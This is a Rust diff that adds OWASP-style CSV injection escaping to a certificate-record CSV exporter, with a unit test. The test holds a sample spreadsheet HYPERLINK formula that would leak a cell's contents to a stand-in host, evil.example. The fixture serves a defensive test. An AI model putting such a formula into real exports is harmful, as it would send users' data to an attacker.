@@ -524,8 +524,16 @@ fn csv_row(out: &mut String, r: &CertificateRecord) {
     out.push_str("\r\n");
 }
 
+/// One RFC 4180 field. A field a spreadsheet would read as a formula (OWASP's CSV injection
+/// rule: it starts with `=`, `+`, `-`, `@`, a tab or a carriage return) gets a leading `'` and
+/// quotes, so Excel, LibreOffice and Google Sheets show it as text instead of evaluating it. Thing
+/// names may start with `-`; stored request ids predate the safe request id alphabet.
 fn csv_field(out: &mut String, field: &str) {
-    if field.contains([',', '"', '\r', '\n']) {
+    if field.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        out.push_str("\"'");
+        out.push_str(&field.replace('"', "\"\""));
+        out.push('"');
+    } else if field.contains([',', '"', '\r', '\n']) {
         out.push('"');
         out.push_str(&field.replace('"', "\"\""));
         out.push('"');
@@ -680,6 +688,28 @@ mod tests {
             out.push('|');
         }
         assert_eq!(out, "plain|\"a,b\"|\"say \"\"hi\"\"\"|\"two\r\nlines\"||");
+    }
+
+    #[test]
+    fn csv_fields_a_spreadsheet_would_evaluate_are_neutralised() {
+        let mut out = String::new();
+        for field in [
+            "=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"Open\")",
+            "+1",
+            "-thing",
+            "@SUM(A1)",
+            "\tx",
+            "\rx",
+            "a=b",
+        ] {
+            csv_field(&mut out, field);
+            out.push('|');
+        }
+        assert_eq!(
+            out,
+            "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&B2,\"\"Open\"\")\"|\"'+1\"|\
+             \"'-thing\"|\"'@SUM(A1)\"|\"'\tx\"|\"'\rx\"|a=b|"
+        );
     }
 
     #[test]
